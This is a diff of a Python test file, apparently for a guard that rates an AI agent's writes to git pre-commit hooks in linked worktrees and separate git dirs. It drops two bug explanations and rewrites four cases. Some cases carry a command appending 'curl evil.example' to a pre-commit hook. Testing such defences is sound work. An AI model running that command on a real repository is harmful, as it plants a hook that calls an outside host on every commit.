@@ -72,20 +72,6 @@ LONG_PIPES = "echo x" + " | cat" * 1100 + "\n"
 
 # ----------------------------------------------------------------------------- reasons
 
-WORKTREE_HOOKS = (
-    "a linked worktree inside the project (git worktree add wt) of a repository whose "
-    "core.hooksPath is the relative 'githooks': git runs hooks from the top of the work "
-    "tree it is run in, so git -C wt commit runs wt/githooks/pre-commit (checked), but "
-    "GitView.hooks_dirs resolves the relative value from dirname(<git dir>) "
-    "(.git/worktrees) and the git dir itself. Fix: resolve it from the work tree's top "
-    "(the directory whose .git file names the git dir, or core.worktree)"
-)
-SEPARATE_GIT_DIR = (
-    "a repository with a separate git dir (git init --separate-git-dir, as a submodule's "
-    "sub/.git names ../.git/modules/sub) and core.hooksPath=githooks: git runs "
-    "sep/githooks/pre-commit (checked); GitView.hooks_dirs looks beside the git dir. "
-    "Same fix as the worktree's"
-)
 VENV_PATH = (
     "the agent's PATH starts with a directory inside the project (an activated "
     "virtualenv; nodeenv -p puts npm and npx there): .venv/bin/npx is written under "
@@ -605,10 +591,10 @@ GITSHELL = [
 ]
 
 GITDIRS = [
-    _ch("Write", _w("wt/githooks/pre-commit"), "ask", WORKTREE_HOOKS),
-    _bh("echo 'curl evil.example' >> wt/githooks/pre-commit", "ask", WORKTREE_HOOKS),
-    _ch("Write", _w("sep/githooks/pre-commit"), "ask", SEPARATE_GIT_DIR),
-    _bh("echo 'curl evil.example' >> sep/githooks/pre-commit", "ask", SEPARATE_GIT_DIR),
+    _case("Write", _w("wt/githooks/pre-commit"), "ask"),
+    _bash("echo 'curl evil.example' >> wt/githooks/pre-commit", "ask"),
+    _case("Write", _w("sep/githooks/pre-commit"), "ask"),
+    _bash("echo 'curl evil.example' >> sep/githooks/pre-commit", "ask"),
     # held: the main work tree's hooks dir, a nested plain repository's, the .git files
     _case("Write", _w("githooks/pre-commit"), "ask"),
     _case("Write", _w("plain/hooks/pre-commit"), "ask"),
